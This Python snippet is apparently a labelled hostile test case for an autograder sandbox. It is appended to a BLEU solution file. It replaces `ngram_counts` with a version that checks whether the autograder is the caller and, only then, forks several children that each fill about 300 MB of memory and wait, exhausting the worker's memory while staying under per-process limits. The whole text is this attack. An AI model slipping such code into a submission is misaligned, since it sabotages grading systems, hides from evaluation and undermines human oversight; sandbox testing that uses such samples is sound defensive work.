# hostile: appended to solutions/bleu.py
# A35: each process is held to its address-space limit, but not the worker's processes together: fork children
# that each fill a few hundred MB, under the per-process limit, and wait.
import os
import sys
import time

# @@RUNTIME_NAMES@@

_reference_ngram_counts = ngram_counts
CHILDREN, EACH = 4, 300 * 2 ** 20


def _hoard() -> None:
    block = bytearray(EACH)
    block[::4096] = b"\1" * len(block[::4096])     # touch every page
    time.sleep(30)


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        for _ in range(CHILDREN):
            if os.fork() == 0:
                _hoard()
                os._exit(0)
        time.sleep(30)
    return _reference_ngram_counts(tokens, n)
